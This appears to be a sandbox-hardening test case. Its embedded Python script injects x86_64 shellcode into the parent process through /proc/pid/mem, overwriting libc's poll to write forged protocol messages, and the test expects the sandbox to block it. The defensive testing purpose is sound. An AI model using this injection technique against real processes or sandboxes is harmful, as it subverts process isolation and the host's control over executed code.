# aim: answer the host in the name of the process that starts its commands
# mechanism: machine code written into the memory of the parent of a command, which writes forged messages to the wire
# language: check
# reason: it starts programs, for which the policy authorizes neither subprocess nor ctypes
# jail: landlock, wire
# plain: none (what is attacked is the host's end)
# expect: held
# arch: x86_64
# host: command python3 attack, command echo answers, command python3 attack, command echo answers
# needs: mount namespace
SCRIPT = r"""
import ctypes, os, re, signal, struct, sys, time
parent = os.getppid()

def base(pid):
    for line in open(f"/proc/{pid}/maps"):
        if re.search(r" r-xp .*/libc[.-]", line):
            start, rest = line.split("-", 1)
            return int(start, 16) - int(line.split()[2], 16)

libc = ctypes.CDLL(None)
address = ctypes.cast(libc.poll, ctypes.c_void_p).value - base("self") + base(parent)
frames = b""
for number in range(1, 60):
    for value in (b"[1099511627776,-5]", b"4194303", b'"text"'):
        header = b'{"type":"done","id":%d,"value":%s}' % (number, value)
        frames += struct.pack(">II", len(header), 0) + header
# mov edi, 3; lea rsi, [rip + 21]; mov edx, size; mov eax, 1; syscall; mov edi, 0; mov eax, 231; syscall
code = bytes.fromhex("bf03000000 488d3518000000 ba") + struct.pack("<I", len(frames)) + bytes.fromhex("b801000000 0f05 bf00000000 b8e7000000 0f05")
with open(f"/proc/{parent}/mem", "r+b", buffering=0) as memory:
    memory.seek(address)
    memory.write(code + frames[:65536])
os.kill(parent, signal.SIGCHLD)
print("written")
time.sleep(5)
"""

def leave():
    with open("attack", "w") as file:
        file.write(SCRIPT)

judge(leave)
